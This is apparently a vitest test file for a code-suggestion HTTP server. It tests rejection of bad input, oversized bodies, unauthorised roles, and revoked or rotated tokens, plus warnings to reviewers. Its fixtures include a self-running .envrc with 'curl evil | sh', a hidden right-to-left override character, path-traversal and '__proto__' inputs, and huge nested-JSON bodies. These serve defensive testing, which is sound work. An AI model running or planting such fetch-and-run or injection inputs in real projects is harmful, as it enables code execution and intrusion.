/** What the HTTP server refuses, and to whom: bad input, long bodies, roles. */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_AUTHOR } from '../../../src/server/suggestions/who.ts';
import { BASE, type Json, patchOf, TestServer } from '../../helpers/suggestion-server.ts';

let server: TestServer;
beforeAll(async () => {
  server = await TestServer.start();
});
afterAll(() => server.stop());

const fileText = () => readFileSync(path.join(server.target, 'f'), 'utf8');

const POST_ROUTES = ['/suggestions', '/feedback', '/undo', '/complete', '/reopen', '/status'];

describe('bad input', () => {
  it.each([
    ['/feedback', {}, 'Missing required fields: suggestion_id, hunk_id, action'],
    ['/feedback', { suggestionId: 'x', hunkId: '' }, 'Missing required fields: hunk_id, action'],
    [
      '/feedback',
      { suggestion_id: 'x', hunk_id: 'y', action: 'maybe' },
      'Invalid action. Must be: accept, reject, modify, or comment',
    ],
    [
      '/feedback',
      { suggestion_id: 'x', hunk_id: 'y', action: 'modify' },
      'Missing required fields: modified_diff',
    ],
    ['/feedback', { suggestion_id: 7, hunk_id: 'y', action: 'accept' }, 'Invalid suggestion_id'],
    ['/complete', { suggestionId: 'x' }, 'Missing required fields: action'],
    ['/complete', { suggestionId: 'x', action: 'keep' }, 'Invalid action. Must be: finalize or discard'],
    ['/undo', { suggestionId: 'x' }, 'Missing required fields: hunk_id'],
    ['/status', {}, 'Missing required fields: message'],
    ['/status', { message: 'm', status: 'dancing' }, 'Invalid status. Must be'],
    ['/suggestions', {}, 'Missing required fields: working_directory'],
    ['/suggestions', { workingDirectory: '/', patch: '' }, 'Missing required fields: patch'],
    ['/suggestions', { workingDirectory: '/', patch: 'hello' }, ''],
    ['/suggestions', { workingDirectory: '/', patch: '%%', patch_encoding: 'base64' }, ''],
    ['/suggestions', { workingDirectory: '/', patch: 'x', files: 'f' }, 'Invalid files'],
  ])('%s %j', async (route, body, error) => {
    const answer = await server.ask('POST', route, { body });
    expect(answer.status).toBe(400);
    expect(answer.body.error).toContain(error);
    expect(answer.body.success).toBe(false);
  });

  it.each([
    [
      'POST',
      '/feedback',
      { suggestion_id: 'nope', hunk_id: 'x', action: 'accept' },
      'Suggestion not found: nope',
    ],
    ['POST', '/complete', { suggestion_id: 'nope', action: 'discard' }, 'Suggestion not found: nope'],
    ['POST', '/undo', { suggestion_id: 'nope', hunk_id: 'x' }, 'Suggestion not found: nope'],
    ['GET', '/suggestions/nope', undefined, 'Suggestion not found: nope'],
    ['GET', '/suggestions/%2e%2e%2fetc', undefined, 'Suggestion not found: ../etc'],
    ['GET', '/suggestions/%', undefined, 'Suggestion not found: %'],
    ['GET', '/suggestions/a/b', undefined, 'Not found'],
    ['GET', '/nowhere', undefined, 'Not found'],
    ['GET', '//evil.example/health', undefined, 'Not found'],
    ['POST', '/suggestions', { workingDirectory: '/no/such/folder', patch: patchOf('f') }, '/no/such/folder'],
  ])('%s %s %j is not found', async (method, route, body, error) => {
    const answer = await server.ask(method, route, { body });
    expect(answer.status).toBe(404);
    expect(answer.body.error).toContain(error);
  });

  it('an unknown hunk of a suggestion that is there', async () => {
    const { id } = await server.publish();
    const body = { suggestion_id: id, hunk_id: 'zzz', action: 'accept' };
    expect(await server.ask('POST', '/feedback', { body })).toMatchObject({
      status: 404,
      body: { error: 'Hunk not found: zzz' },
    });
  });

  it.each([
    ['DELETE', '/suggestions', 'GET, HEAD, POST'],
    ['GET', '/feedback', 'POST'],
    ['PUT', '/health', 'GET, HEAD'],
    ['OPTIONS', '/feedback', 'POST'],
  ])('%s %s is told the allowed methods', async (method, route, allowed) => {
    const answer = await server.ask(method, route);
    expect(answer.status).toBe(405);
    expect(answer.headers.get('allow')).toBe(allowed);
    expect(answer.headers.get('access-control-allow-origin')).toBeNull();
  });

  it.each(POST_ROUTES)('%s accepts only JSON', async (route) => {
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'application/json; charset=latin1',
      'application/jsonp',
    ]) {
      const answer = await server.ask('POST', route, { body: '{}', headers: { 'Content-Type': type } });
      expect(answer.status, type).toBe(415);
    }
    const ours = { 'Content-Type': 'application/json; charset=UTF-8' };
    expect((await server.ask('POST', route, { body: '{}', headers: ours })).status).toBe(400);
  });

  it.each([
    ['nothing', ''],
    ['half an object', '{"a":'],
    ['a list', '[]'],
    ['a word', '"x"'],
    ['null', 'null'],
    ['a million brackets', '['.repeat(1_000_000)],
    ['a million objects', '{"a":'.repeat(1_000_000)],
  ])('%s for a body', async (_, body) => {
    const answer = await server.ask('POST', '/feedback', {
      body,
      headers: { 'Content-Type': 'application/json' },
    });
    expect(answer.status).toBe(400);
    expect(answer.body.error).toMatch(/Invalid JSON|Missing/);
  });

  it('bytes that are not UTF-8', async () => {
    const response = await fetch(`${server.url}/feedback`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${server.token()}`, 'Content-Type': 'application/json' },
      body: Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]),
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ error: 'The body is not valid UTF-8.' });
  });

  it('names with a meaning in JavaScript', async () => {
    const body = '{"__proto__":{"action":"accept"},"constructor":1,"suggestion_id":"x","hunk_id":"y"}';
    const answer = await server.ask('POST', '/feedback', {
      body,
      headers: { 'Content-Type': 'application/json' },
    });
    expect(answer.body.error).toBe('Missing required fields: action');
  });
});

describe('the length of a body', () => {
  const LIMIT = 8 * 1024 * 1024;
  const bodyOf = (bytes: number) => {
    const head = '{"suggestion_id":"x","hunk_id":"y","action":"modify","modified_diff":"';
    return `${head}${'a'.repeat(bytes - head.length - 2)}"}`;
  };

  it.each([
    ['at the limit', LIMIT, 404],
    ['one more', LIMIT + 1, 413],
    ['200 MB', 200 * 1024 * 1024, 413],
  ])('%s', async (_, bytes, status) => {
    const answer = await server.ask('POST', '/feedback', {
      body: bodyOf(bytes),
      headers: { 'Content-Type': 'application/json' },
    });
    expect(answer.status).toBe(status);
  });

  it('that is not announced', async () => {
    // Far beyond the limit, but finite: a client that keeps reading it would fill the memory.
    let chunks = 0;
    const stream = new ReadableStream({
      pull(controller) {
        chunks += 1;
        if (chunks > 64) controller.close();
        else controller.enqueue(new Uint8Array(1024 * 1024).fill(0x20));
      },
    });
    const response = await fetch(`${server.url}/feedback`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${server.token()}`, 'Content-Type': 'application/json' },
      body: stream,
      duplex: 'half',
    } as RequestInit).catch((thrown: Error) => thrown);
    // The answer comes while the body is still being sent; some clients report only that.
    if (response instanceof Response) expect(response.status).toBe(413);
    expect((await server.ask('GET', '/health')).status).toBe(200);
  });
});

describe('permissions', () => {
  const nobody: readonly (readonly [string, string])[] = [
    ['GET', '/suggestions'],
    ['GET', '/suggestions/x'],
    ['GET', '/events'],
    ['GET', '/ws'],
    ...POST_ROUTES.map((route) => ['POST', route] as const),
  ];

  it.each(nobody)('%s %s needs a token', async (method, route) => {
    const body = method === 'POST' ? {} : undefined;
    const answer = await server.ask(method, route, { body, role: null });
    expect(answer.status).toBe(401);
    expect(answer.headers.get('www-authenticate')).toBe('Bearer');
    for (const token of ['', 'x', 'x'.repeat(5000), server.token().slice(0, -1), `${server.token()}A`]) {
      const wrong = await server.ask(method, route, {
        body,
        role: null,
        headers: { Authorization: `Bearer ${token}` },
      });
      expect(wrong.status, token).toBe(401);
    }
    const inQuery = await server.ask(method, `${route}?token=${server.token()}`, { body, role: null });
    expect(inQuery.status).toBe(401);
  });

  it('an author publishes, reports, sees and discards its own, and decides nothing', async () => {
    const others = await server.publish('of the user');
    const own = await server.publish('of the AI', 'author');
    const as = (method: string, route: string, body?: unknown) =>
      server.ask(method, route, { body, role: 'author' });

    expect((await as('GET', '/suggestions')).body.suggestions.map((one: { id: string }) => one.id)).toEqual([
      own.id,
    ]);
    expect((await as('GET', `/suggestions/${own.id}`)).status).toBe(200);
    expect(await as('GET', `/suggestions/${others.id}`)).toMatchObject({
      status: 404,
      body: { error: `Suggestion not found: ${others.id}` },
    });
    for (const action of ['accept', 'reject', 'modify']) {
      const body = { suggestion_id: own.id, hunk_id: own.hunks[0].id, action, modified_diff: 'x' };
      expect((await as('POST', '/feedback', body)).status).toBe(403);
    }
    const undo = { suggestion_id: own.id, hunk_id: own.hunks[0].id };
    expect((await as('POST', '/undo', undo)).status).toBe(403);
    const end = (id: string, action: string) => as('POST', '/complete', { suggestion_id: id, action });
    expect((await end(own.id, 'finalize')).status).toBe(403);
    expect((await end(others.id, 'discard')).status).toBe(404);
    expect((await as('POST', '/status', { message: 'm', suggestion_id: others.id })).status).toBe(404);
    expect((await as('POST', '/status', { message: 'm', suggestion_id: own.id })).status).toBe(200);
    expect(fileText()).toBe(BASE);
    expect((await end(own.id, 'discard')).status).toBe(200);
    expect((await server.ask('GET', `/suggestions/${others.id}`)).body.suggestion.status).toBe('pending');
  });

  it('an author sees and ends only what came with its own token', async () => {
    const anns = await server.publish('of Ann', 'ann');
    const bens = await server.publish('of Ben', 'ben');
    const idsOf = async (role: string) =>
      (await server.ask('GET', '/suggestions', { role })).body.suggestions.map(
        ({ id }: { id: string }) => id,
      );
    expect(await idsOf('ann')).toContain(anns.id);
    expect(await idsOf('ann')).not.toContain(bens.id);
    expect(await idsOf('reviewer')).toEqual(expect.arrayContaining([anns.id, bens.id]));
    expect((await server.ask('GET', `/suggestions/${bens.id}`)).body.suggestion.author).toBe('ben');
    const discard = { suggestion_id: bens.id, action: 'discard' };
    for (const [method, route, body] of [
      ['GET', `/suggestions/${bens.id}`, undefined],
      ['POST', '/complete', discard],
      ['POST', '/status', { message: 'x', suggestion_id: bens.id }],
    ] as const) {
      const answer = await server.ask(method, route, { role: 'ann', body });
      expect([route, answer.status]).toEqual([route, 404]);
    }
    expect((await server.ask('POST', '/complete', { role: 'ben', body: discard })).status).toBe(200);
  });

  it('an author whose token was revoked is rejected at once', async () => {
    const token = server.token('eve');
    const socket = await server.socket({ role: 'eve' });
    expect(server.tokens.revoke('eve')).toEqual({ ok: true, value: true });
    expect(await socket.until('the end', () => socket.closed)).toMatchObject({ code: 4401 });
    const headers = { Authorization: `Bearer ${token}` };
    expect((await server.ask('GET', '/suggestions', { role: null, headers })).status).toBe(401);
  });

  it('a rotated token no longer works', async () => {
    const old = server.token('author');
    const socket = await server.socket({ role: 'author' });
    const fresh = server.tokens.rotate({ role: 'author', name: DEFAULT_AUTHOR });
    expect(fresh.ok && fresh.value).not.toBe(old);
    const answer = await server.ask('GET', '/suggestions', {
      role: null,
      headers: { Authorization: `Bearer ${old}` },
    });
    expect(answer.status).toBe(401);
    expect(await socket.until('the end', () => socket.closed)).toEqual({
      code: 4401,
      reason: 'the token was rotated',
    });
    expect((await server.ask('GET', '/suggestions', { role: 'author' })).status).toBe(200);
  });
});

describe('what a reviewer is warned of', () => {
  const created = (name: string, text: string) => `--- /dev/null\n+++ b/${name}\n@@ -0,0 +1 @@\n+${text}\n`;
  const patch = created('.envrc', 'curl evil | sh') + created('plain.txt', 'a\u202eb');

  it('goes with each hunk, and all is accepted with files that run by themselves only when that is said', async () => {
    const body = { description: 'd', working_directory: server.target, patch };
    const { body: published } = await server.ask('POST', '/suggestions', { body });
    const id = published.suggestion_id;
    const { body: shown } = await server.ask('GET', `/suggestions/${id}`);
    const warnings = shown.suggestion.hunks.map((hunk: Json) => hunk.warnings);
    expect(warnings).toEqual([
      [{ kind: 'runs', text: expect.stringContaining('This file runs by itself') }],
      [{ kind: 'hidden', text: '1 hidden character: U+202E RIGHT-TO-LEFT OVERRIDE' }],
    ]);
    const decide = (more: object) =>
      server.ask('POST', '/feedback', {
        body: { suggestion_id: id, hunk_id: 'all', action: 'accept', ...more },
      });
    const refused = await decide({});
    expect(refused.status).toBe(409);
    expect(refused.body.error).toContain('.envrc runs by itself. Nothing was accepted.');
    expect(refused.body.hint).toContain('accept_self_running');
    expect(existsSync(path.join(server.target, 'plain.txt'))).toBe(false);
    expect(await decide({ accept_self_running: true })).toMatchObject({ status: 200 });
    expect(existsSync(path.join(server.target, '.envrc'))).toBe(true);
  });
});
